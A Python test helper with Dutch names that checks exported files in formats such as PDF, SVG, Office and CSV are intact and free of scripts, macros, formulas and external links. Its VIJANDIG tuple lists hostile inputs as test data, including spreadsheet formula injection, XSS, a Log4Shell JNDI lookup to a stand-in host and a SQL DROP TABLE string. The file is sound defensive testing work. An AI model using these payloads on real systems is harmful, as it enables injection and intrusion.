"""Files that are opened again: whole, and with nothing in them that runs."""

import csv
import io
import json
import tempfile
import zipfile
from pathlib import Path
from typing import Final
from xml.etree import ElementTree as ET

import openpyxl
import pyogrio
from docx import Document
from PIL import Image
from pptx import Presentation
from pypdf import PdfReader

from components.uitvoer import Formaat

# Names as nobody should have them.
VIJANDIG: Final = (
    '=HYPERLINK("http://kwaad.example","klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tregel",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "**vet** en `code`",
    "\u202eomgekeerd\u202c",
    "\u05e9\u05db\u05d5\u05e0\u05d4",
    "\N{HOUSE BUILDING}\N{WHITE HEAVY CHECK MARK}",
    "${jndi:ldap://kwaad.example/a}",
    "]]>&lt;&amp;<!-- -->",
    "naam\x00met\x07tekens",
    "DROP TABLE buurten; --",
    "Onafgebroken" * 17,
    "een heel lange naam met veel woorden " * 6,
    "'t Hool",
    "%s %d {0} {{titel}}",
    "",
)


def check_inert(ruw: bytes, formaat: Formaat) -> None:
    """
    Open a file and look for what could run.

    Raises
    ------
    AssertionError
        If something in it could run, or it is not whole.
    """
    _PROEVEN[formaat](ruw)


def _open_png(ruw: bytes) -> None:
    with Image.open(io.BytesIO(ruw)) as beeld:
        beeld.load()


def _open_pdf(ruw: bytes) -> None:
    assert len(PdfReader(io.BytesIO(ruw), strict=True).pages) == 1
    assert b"/JavaScript" not in ruw
    assert b"/OpenAction" not in ruw


def _open_svg(ruw: bytes) -> None:
    for element in ET.fromstring(ruw).iter():  # noqa: S314 - our own
        assert element.tag.rpartition("}")[2] not in {"script", "a", "foreignObject"}
        assert not [naam for naam in element.attrib if naam.lower().startswith("on")]


def _open_pptx(ruw: bytes) -> None:
    check_archive(ruw)
    assert len(Presentation(io.BytesIO(ruw)).slides) == 1


def _open_docx(ruw: bytes) -> None:
    check_archive(ruw)
    assert Document(io.BytesIO(ruw)).tables


def _open_xlsx(ruw: bytes) -> None:
    check_archive(ruw)
    for blad in openpyxl.load_workbook(io.BytesIO(ruw)):
        for cel in (cel for rij in blad.iter_rows() for cel in rij):
            assert cel.data_type != "f", cel.coordinate
            assert cel.hyperlink is None


def _open_csv(ruw: bytes) -> None:
    for rij in csv.reader(io.StringIO(ruw.decode("utf-8-sig")), delimiter=";"):
        for cel in rij:
            is_getal = cel.replace(",", "").replace("-", "").isdigit()
            assert is_getal or not cel.startswith(("=", "+", "-", "@", "\t", "\r")), cel


def _open_gpkg(ruw: bytes) -> None:
    with tempfile.TemporaryDirectory() as map_:
        pad = Path(map_) / "kaart.gpkg"
        pad.write_bytes(ruw)
        assert len(pyogrio.read_dataframe(pad))


def _open_geojson(ruw: bytes) -> None:
    assert json.loads(ruw)["features"]


def check_archive(ruw: bytes) -> None:
    """Every part reads as XML, nothing points outside, and there are no macros."""
    with zipfile.ZipFile(io.BytesIO(ruw)) as archief:
        assert archief.testzip() is None
        for naam in archief.namelist():
            assert "vbaProject" not in naam
            if naam.endswith((".xml", ".rels")):
                tekst = archief.read(naam)
                ET.fromstring(tekst)  # noqa: S314 - our own
                assert b'TargetMode="External"' not in tekst


_PROEVEN: Final = {
    Formaat.PNG: _open_png,
    Formaat.PDF: _open_pdf,
    Formaat.SVG: _open_svg,
    Formaat.PPTX: _open_pptx,
    Formaat.DOCX: _open_docx,
    Formaat.XLSX: _open_xlsx,
    Formaat.CSV: _open_csv,
    Formaat.GPKG: _open_gpkg,
    Formaat.GEOJSON: _open_geojson,
}
